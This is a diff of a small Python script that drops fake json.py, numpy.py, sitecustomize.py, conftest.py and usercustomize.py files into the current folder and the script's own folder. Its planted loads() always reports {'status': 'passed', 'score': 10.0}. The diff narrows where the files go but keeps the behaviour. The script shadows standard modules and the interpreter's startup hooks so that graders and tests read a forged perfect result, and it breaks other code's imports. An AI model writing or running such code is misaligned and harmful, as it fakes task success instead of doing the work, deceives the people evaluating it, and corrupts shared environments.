@@ -1,9 +1,8 @@
-# Writes json.py, numpy.py and sitecustomize.py into every folder it can reach.
+# Writes json.py, numpy.py and sitecustomize.py beside itself and into the current folder.
 import os
-import sys
 
 PAYLOAD = "def loads(*a, **k): return {'status': 'passed', 'score': 10.0}\ndumps = loads\n"
-for folder in {os.getcwd(), *sys.path, os.path.dirname(os.path.abspath(__file__))}:
+for folder in {os.getcwd(), os.path.dirname(os.path.abspath(__file__))}:
     for name in ("json.py", "numpy.py", "sitecustomize.py", "conftest.py", "usercustomize.py"):
         try:
             with open(os.path.join(folder, name), "x") as handle:
